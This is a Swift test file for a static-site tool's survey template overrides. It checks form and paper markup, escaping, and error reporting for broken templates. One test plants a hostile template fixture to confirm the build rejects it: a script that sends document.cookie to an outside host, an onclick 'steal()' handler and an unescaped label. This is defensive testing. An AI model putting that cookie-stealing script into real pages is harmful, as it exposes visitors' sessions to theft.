import Foundation
import Testing

/// A site or module restyles a survey's web form and paper questionnaire by overriding its templates.
@Suite("Survey templates")
struct SurveyTemplateTests {
    static let form = "site/surveys/park-theme/index.html"
    static let paper = "site/surveys/park-theme/paper/index.html"

    @Test func aSiteOverrideOfTheQuestionTemplateChangesTheForm() throws {
        let project = try DoorstepRunner.project("survey-theme")
        let result = try DoorstepRunner.run(["build", "--no-pdf"], in: project)
        #expect(result.status == 0, "\(result.stderr)")
        let form = try DoorstepRunner.read(project, Self.form)
        // The override is the example in docs/authoring.md.
        #expect(form.contains("<div class=\"survey-question card\" id=\"q-used_park\" data-question=\"used_park\" data-type=\"yes_no\" data-required=\"true\">"))
        #expect(form.contains("<p class=\"card-label\"><span class=\"badge\">2</span> What&#39;s the best thing about it?</p>"))
        #expect(form.contains("<p class=\"survey-hint\" id=\"q-best_thing-hint\">A few words are enough.</p>"))
        #expect(form.contains("<input class=\"survey-input\" type=\"text\" id=\"q-best_thing-input\" name=\"best_thing\">"))
        #expect(form.contains("<label class=\"card-choice\"><input type=\"radio\" id=\"q-used_park-yes\" name=\"used_park\" value=\"yes\"> Yes</label>"))
        // A label's own markup is shown as text, escaped once.
        #expect(form.contains("Have you used the &lt;park&gt; this year?"))
        #expect(!form.contains("&amp;lt;park"))
        #expect(!form.contains("survey-type-yes_no"), "the built-in question markup is replaced")
        #expect(!form.contains("templates/survey-question.mustache"), "a template's comment is not published")
        // The form around the questions is still the built-in one, with what the script needs.
        #expect(form.contains("<form class=\"survey-form\" id=\"survey-park-theme\""))
        #expect(form.contains("data-columns=\""))
        let paper = try DoorstepRunner.read(project, Self.paper)
        #expect(paper.contains("<div class=\"survey-paper-question survey-type-yes_no\" id=\"paper-used_park\">"),
                "the paper questionnaire keeps its own template")
    }

    @Test func aModuleOverrideRestylesThePaperQuestionnaireOfItsSurveys() throws {
        let project = try DoorstepRunner.project("survey-theme")
        let templates = project.appendingPathComponent("toolkit-modules/park/templates")
        try FileManager.default.createDirectory(at: templates, withIntermediateDirectories: true)
        try "<section class=\"park-paper\" id=\"{{elementID}}\"><h3>{{numberLabel}} {{label}}</h3>{{#options}}<p>[ ] {{label}} {{code}}</p>{{/options}}</section>\n"
            .write(to: templates.appendingPathComponent("survey-paper-question.mustache"), atomically: true, encoding: .utf8)
        let result = try DoorstepRunner.run(["build", "--no-pdf"], in: project)
        #expect(result.status == 0, "\(result.stderr)")
        let paper = try DoorstepRunner.read(project, Self.paper)
        #expect(paper.contains("<section class=\"park-paper\" id=\"paper-used_park\"><h3>Q1 Have you used the &lt;park&gt; this year?</h3><p>[ ] Yes 1</p>"))
        #expect(paper.contains("<div class=\"survey-paper\" data-survey-id=\"park-theme\""), "the questionnaire around the questions is the built-in one")
    }

    @Test func aBrokenSurveyTemplateOverrideIsALocatedError() throws {
        let project = try DoorstepRunner.project("survey-theme")
        try "<div class=\"park-question\">\n<p>{{label}}</p>\n{{#choices}}\n<label>{{label}}</label>\n</div>\n"
            .write(to: project.appendingPathComponent("templates/survey-question.mustache"), atomically: true, encoding: .utf8)
        let result = try DoorstepRunner.run(["build", "--no-pdf"], in: project)
        #expect(result.status == 1)
        #expect(result.stderr.contains("templates/survey-question.mustache:"), "\(result.stderr)")
        #expect(result.stderr.contains("error: template 'survey-question' could not be read"), "\(result.stderr)")
        #expect(!FileManager.default.fileExists(atPath: project.appendingPathComponent(Self.form).path), "no half-written site")
    }

    @Test func aSurveyTemplateOverrideThatWritesScriptIsStopped() throws {
        let project = try DoorstepRunner.project("survey-theme")
        try "<form>{{#sections}}{{label}}{{/sections}}</form>\n<script>fetch('https://example.org/?' + document.cookie)</script>\n"
            .write(to: project.appendingPathComponent("templates/survey-form.mustache"), atomically: true, encoding: .utf8)
        try "<p onclick=\"steal()\">{{{label}}}</p>\n"
            .write(to: project.appendingPathComponent("templates/survey-question.mustache"), atomically: true, encoding: .utf8)
        let result = try DoorstepRunner.run(["build", "--no-pdf"], in: project)
        #expect(result.status == 1)
        #expect(result.stderr.contains("templates/survey-form.mustache:2:1: error: a template may not have script written inside it"), "\(result.stderr)")
        #expect(result.stderr.contains("templates/survey-question.mustache:1:4: error: event-handler attributes"), "\(result.stderr)")
        #expect(result.stderr.contains("templates/survey-question.mustache:1:"), "\(result.stderr)")
        #expect(result.stderr.contains("'label' is written without escaping"), "\(result.stderr)")
        #expect(!FileManager.default.fileExists(atPath: project.appendingPathComponent(Self.form).path))
    }
}
